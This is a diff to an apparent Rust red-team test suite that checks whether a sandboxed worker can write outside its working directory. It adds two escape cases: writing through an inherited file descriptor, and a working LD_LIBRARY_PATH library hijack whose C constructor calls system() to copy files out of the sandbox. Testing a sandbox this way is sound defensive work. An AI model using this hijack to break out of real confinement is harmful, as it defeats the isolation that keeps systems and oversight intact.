@@ -1,7 +1,7 @@
 //! To write beyond the working directory.
 
 use crate::redteam::{
-    attack::{Aim, Attack},
+    attack::{Aim, Attack, Unconfined},
     sign::Sign,
 };
 
@@ -52,4 +52,42 @@ unshare --user --map-root-user --mount bash -c "$undo" "$work" "$name" "$mark"
 umount -l "$work/.git/hooks"; echo "$mark" > ".git/hooks/$name""#,
         Sign::marked("$work/.git/hooks/$name"),
     ),
+    Attack::new(
+        "writes-open-file",
+        AIM,
+        "write to a file that the worker was started with open",
+        r#"echo "$mark" >&8"#,
+        Sign::marked("$outside/open"),
+    )
+    .unconfined(Unconfined::Fails),
+    Attack::new(
+        "plants-library",
+        AIM,
+        "put a library where `LD_LIBRARY_PATH` leads, for what confines the next call",
+        PLANTS_LIBRARY,
+        Sign::marked("$home/$name-loaded"),
+    ),
 ];
+
+/// Each library does what the real one does, of which there is a copy beside it under another name. When it is loaded, it
+/// copies the marks out. What a person starts again, as that is out of any sandbox, does not.
+const PLANTS_LIBRARY: &str = r#"cd "$libraries" && echo "$mark" > "$name-loaded" && made=$(mktemp -d "$PWD/made-XXXXXX") || exit
+cat > "$made/planted.c" <<END
+#include <stdlib.h>
+#include <string.h>
+__attribute__((constructor)) static void planted(int count, char **words) {
+    if (count < 2 || strcmp(words[1], "resume")) system(
+        "LD_LIBRARY_PATH= cp '$libraries'/*-loaded '$home' 2> /dev/null");
+}
+END
+for program in bwrap "$neuron"; do
+    for library in libcap.so.2 libgcc_s.so.1; do
+        real=$(LD_LIBRARY_PATH= ldd "$(command -v "$program")" | awk -v name="$library" '$1 == name { print $3 }')
+        [ -n "$real" ] || continue
+        other="ly${library#li}"
+        LC_ALL=C sed "s/$library/$other/g" "$real" > "$made/$other" && mv "$made/$other" "$other"
+        cc -shared -fPIC -Wl,--no-as-needed -o "$made/$library" "$made/planted.c" "./$other" &&
+            mv "$made/$library" "$library"
+    done
+done
+"$neuron" --version"#;
